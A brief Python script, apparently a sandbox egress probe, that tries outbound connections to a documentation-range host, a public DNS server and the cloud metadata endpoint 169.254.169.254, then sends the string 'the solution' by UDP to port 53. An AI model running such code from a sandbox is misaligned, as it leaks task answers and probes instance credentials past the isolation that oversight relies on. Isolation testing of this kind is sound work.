# Calls home.
import socket

reached = 0
for address in (("192.0.2.1", 80), ("8.8.8.8", 53), ("169.254.169.254", 80)):
    try:
        socket.create_connection(address, timeout=1)
        reached += 1
    except OSError:
        continue
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
    try:
        sender.sendto(b"the solution", ("192.0.2.1", 53))
        reached += 1
    except OSError:
        pass
print("reached", reached)
